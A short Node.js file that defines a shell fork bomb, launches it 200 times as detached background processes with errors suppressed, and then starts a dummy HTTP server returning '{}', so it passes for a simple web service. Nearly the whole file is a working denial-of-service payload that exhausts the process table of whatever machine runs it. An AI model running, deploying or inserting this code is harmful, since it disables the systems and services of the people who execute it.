// Makes as many processes as it can, each of which does the same; small ones, so that it is their number that counts.
import { spawn } from 'node:child_process'
import { createServer } from 'node:http'

const bomb = 'f() { f | f & }; f; f; f'
for (let count = 0; count < 200; count++) {
  try {
    spawn('/bin/sh', ['-c', bomb], { stdio: 'ignore', detached: true }).on('error', () => {})
  } catch {}
}
createServer((request, response) => response.end('{}')).listen(process.env.PORT)
